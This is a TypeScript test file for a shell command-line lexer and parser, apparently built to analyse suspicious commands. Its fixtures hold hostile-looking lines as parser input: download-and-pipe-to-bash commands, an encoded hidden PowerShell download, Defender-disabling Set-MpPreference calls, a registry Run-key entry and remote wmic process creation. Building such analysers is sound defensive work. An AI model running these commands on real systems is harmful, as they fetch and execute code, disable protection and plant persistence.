import { lex } from './lex';
import { allInvocations, decodeEncodedCommand, guessDialect, parseCommandLine } from './parse';

const words = (text: string, dialect: 'cmd' | 'powershell' | 'posix') =>
  lex(text, dialect).flatMap((t) => (t.kind === 'word' ? [t.word.value] : []));
const stages = (text: string) => allInvocations(parseCommandLine(text)).map((i) => `${i.joiner || '-'} ${i.name}`);

describe('lex', () => {
  it('reads quotes and escapes as each shell does', () => {
    expect(words('echo "a b" \'c d\' e\\ f', 'posix')).toEqual(['echo', 'a b', 'c d', 'e f']);
    expect(words('p^o^w^e^r^s^h^e^l^l -c "x y"', 'cmd')).toEqual(['powershell', '-c', 'x y']);
    expect(words("Write-Host \"a`\"b\" 'it''s'", 'powershell')).toEqual(['Write-Host', 'a"b', "it's"]);
  });

  it('reads \\" inside a quoted cmd argument as a quote, and "C:\\Temp\\" as a path ending in a backslash', () => {
    expect(words('cmd /c "reg add \\"HKLM\\Software\\X\\" /f"', 'cmd')).toEqual(['cmd', '/c', 'reg add "HKLM\\Software\\X" /f']);
    expect(words('copy a "C:\\Temp\\" /y', 'cmd')).toEqual(['copy', 'a', 'C:\\Temp\\', '/y']);
  });

  it('keeps a Windows path whole in a line read as POSIX', () => {
    expect(words('curl -o C:\\Users\\Public\\a.exe http://x.test/a', 'posix')).toEqual([
      'curl',
      '-o',
      'C:\\Users\\Public\\a.exe',
      'http://x.test/a',
    ]);
  });

  it('keeps brackets that pair up in one word, pipes inside included', () => {
    expect(words('iex (Get-Content a | Out-String)', 'powershell')).toEqual(['iex', '(Get-Content a | Out-String)']);
    expect(words('echo $(curl -s x | sh)', 'posix')).toEqual(['echo', '$(curl -s x | sh)']);
  });

  it('separates comments, line continuations and heredoc bodies', () => {
    const tokens = lex('curl -s x \\\n  -o /tmp/a # fetch it', 'posix');
    expect(tokens.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual([
      'curl',
      '-s',
      'x',
      '-o',
      '/tmp/a',
    ]);
    expect(tokens.find((t) => t.kind === 'comment')).toMatchObject({ text: '# fetch it' });
    const heredoc = lex('cat > /tmp/x.sh << EOF\n#!/bin/sh\nid\nEOF\nchmod +x /tmp/x.sh', 'posix');
    const redirect = heredoc.filter((t) => t.kind === 'redirect');
    expect(redirect.map((r) => r.kind === 'redirect' && r.target?.value)).toEqual(['/tmp/x.sh', '#!/bin/sh\nid']);
    expect(heredoc.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual([
      'cat',
      'chmod',
      '+x',
      '/tmp/x.sh',
    ]);
  });

  it('reads REM and :: as comments only where a cmd command starts', () => {
    const tokens = lex('del a.txt & REM remove it\n:: note\necho rem', 'cmd');
    expect(tokens.filter((t) => t.kind === 'comment').map((t) => t.kind === 'comment' && t.text)).toEqual(['REM remove it', ':: note']);
    expect(tokens.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual(['del', 'a.txt', 'echo', 'rem']);
  });
});

describe('parseCommandLine', () => {
  it('guesses the shell from the line', () => {
    expect(guessDialect('Set-MpPreference -DisableRealtimeMonitoring $true')).toBe('powershell');
    expect(guessDialect('C:\\Windows\\System32\\cmd.exe /c whoami')).toBe('cmd');
    expect(guessDialect('reg add HKLM\\X /v a /d 1')).toBe('cmd');
    expect(guessDialect('chmod +x /tmp/a && /tmp/a')).toBe('posix');
    expect(guessDialect('curl -s http://x.test/a')).toBe('posix');
    expect(guessDialect('curl -s http://x.test/a', 'windows')).toBe('cmd');
  });

  it('splits stages at the shell operators and keeps their joiners', () => {
    expect(stages('a.exe & b.exe && c.exe || d.exe | e.exe')).toEqual(['- a', '& b', '&& c', '|| d', '| e']);
    expect(stages('id; uname -a\nwhoami')).toEqual(['- id', '; uname', '\n whoami']);
  });

  it('reads sub-commands, switches with their values and positionals', () => {
    const [reg] = parseCommandLine('reg add "HKCU\\Software\\X" /v Run /t REG_SZ /d "C:\\a.exe" /f').invocations;
    expect(reg?.subcommands.map((w) => w.value)).toEqual(['add']);
    expect(reg?.switches.map((s) => [s.name, s.value?.value])).toEqual([
      ['/v', 'Run'],
      ['/t', 'REG_SZ'],
      ['/d', 'C:\\a.exe'],
      ['/f', undefined],
    ]);
    expect(reg?.positionals.map((w) => w.value)).toEqual(['HKCU\\Software\\X']);
    const [aws] = parseCommandLine('aws s3 cp s3://bucket/key . --region us-east-1 --recursive').invocations;
    expect(aws?.subcommands.map((w) => w.value)).toEqual(['s3', 'cp']);
    expect(aws?.switches.map((s) => [s.name, s.value?.value])).toEqual([
      ['--region', 'us-east-1'],
      ['--recursive', undefined],
    ]);
  });

  it('keeps the case of POSIX switches and reads inline values', () => {
    const [curl] = parseCommandLine('curl -X POST -x http://proxy.test:8080 --data=a http://x.test').invocations;
    expect(curl?.switches.map((s) => [s.name, s.value?.value])).toEqual([
      ['-X', 'POST'],
      ['-x', 'http://proxy.test:8080'],
      ['--data', 'a'],
    ]);
    const [wmic] = parseCommandLine('wmic /node:10.0.0.5 process call create "cmd /c whoami"').invocations;
    expect(wmic?.switches[0]).toMatchObject({ name: '/node', value: { value: '10.0.0.5' } });
    expect(wmic?.subcommands.map((w) => w.value)).toEqual(['process', 'call', 'create']);
  });

  it('reads redirects with their targets', () => {
    const [ping] = parseCommandLine('ping 127.0.0.1 -n 2 > nul 2>&1').invocations;
    expect(ping?.redirects.map((r) => [r.operator, r.target?.value])).toEqual([
      ['>', 'nul'],
      ['2>&1', undefined],
    ]);
  });

  it('follows wrappers to the command they run, with offsets in the line', () => {
    const line = 'cmd.exe /c start "" /b curl -o a.exe http://x.test/a';
    const all = allInvocations(parseCommandLine(line));
    expect(all.map((i) => [i.name, i.wraps])).toEqual([
      ['cmd', true],
      ['start', true],
      ['curl', false],
    ]);
    const curl = all[2];
    expect(line.slice(curl?.start, curl?.end)).toBe('curl -o a.exe http://x.test/a');
    expect(stages('sudo -u root nohup sh -c "wget -q x -O- | bash"')).toEqual(['- sudo', '- nohup', '- sh', '- wget', '| bash']);
    expect(stages('for /f %i in (a.txt) do call b.bat %i')).toEqual(['- for', '- call', '- b.bat']);
  });

  it('gives a program path cmd is handed quoted its arguments, and a quoted command alone its own stages', () => {
    const line = 'C:\\Windows\\system32\\cmd.exe /C "C:\\Program Files\\Quill Tools\\qsync.exe" -mirror -quiet';
    const program = allInvocations(parseCommandLine(line))[1];
    expect([program?.name, program?.args.map((arg) => arg.value)]).toEqual(['qsync', ['-mirror', '-quiet']]);
    expect(stages('cmd /c "dir C:\\ & whoami /all"')).toEqual(['- cmd', '- dir', '& whoami']);
  });

  it('reads the command after a shell reserved word as the program, and a stage of reserved words only as none', () => {
    expect(stages('if ! type docker; then curl -sLk $SRC/d.sh | bash ; fi')).toEqual(['- type', '; curl', '| bash', '; ']);
    const [, curl, , fi] = parseCommandLine('if ! type docker; then curl -sLk $SRC/d.sh | bash ; fi').invocations;
    expect([curl?.program?.value, curl?.keywords.map((w) => w.raw), curl?.wraps, curl?.text]).toEqual([
      'curl',
      ['then'],
      false,
      'then curl -sLk $SRC/d.sh',
    ]);
    expect([fi?.program, fi?.keywords.map((w) => w.raw), fi?.text]).toEqual([null, ['fi'], 'fi']);
    expect(stages('for h in $(cat hosts.txt); do ssh $h "id"; done')).toEqual(['- ', '- cat', '; ssh', '; ']);
    expect(stages('while read -r u; do LANG=C wget -q "$u"; done < urls.txt')).toEqual(['- read', '; wget', '; ']);
    expect(parseCommandLine('while read -r u; do wget -q "$u"; done < urls.txt').invocations[2]?.redirects[0]?.target?.value).toBe(
      'urls.txt',
    );
    // Only a POSIX shell has them: cmd's `for … do` hands its command on as a wrapper.
    expect(stages('for /f %i in (a.txt) do call b.bat %i')).toEqual(['- for', '- call', '- b.bat']);
  });

  it('reads what PowerShell runs: -Command, -EncodedCommand, Start-Process, substitutions', () => {
    const encoded = Buffer.from('iwr http://x.test/a -OutFile a.exe', 'utf16le').toString('base64');
    expect(decodeEncodedCommand(encoded)).toBe('iwr http://x.test/a -OutFile a.exe');
    expect(stages(`powershell -nop -w hidden -enc ${encoded}`)).toEqual(['- powershell', '- iwr']);
    expect(stages('powershell -c "Get-Process | Stop-Process"')).toEqual(['- powershell', '- get-process', '| stop-process']);
    expect(stages('Start-Process -FilePath cmd.exe -ArgumentList "/c whoami"')).toEqual(['- start-process', '- cmd', '- whoami']);
    expect(stages('TOKEN=$(curl -s http://x.test/t)')).toEqual(['- ', '- curl']);
  });

  it('gives inner commands that were unescaped the wrapper word as their place', () => {
    const line = 'cmd /c "reg add \\"HKLM\\X\\" /f"';
    const reg = allInvocations(parseCommandLine(line))[1];
    expect(reg?.name).toBe('reg');
    expect(reg?.positionals[0]?.value).toBe('HKLM\\X');
    expect([reg?.start, reg?.end]).toEqual([7, line.length]);
  });

  it('lists the comments of the line', () => {
    expect(parseCommandLine('Set-MpPreference -DisableIOAVProtection $true # stop scanning downloads').comments.map((c) => c.text)).toEqual(
      ['# stop scanning downloads'],
    );
  });
});
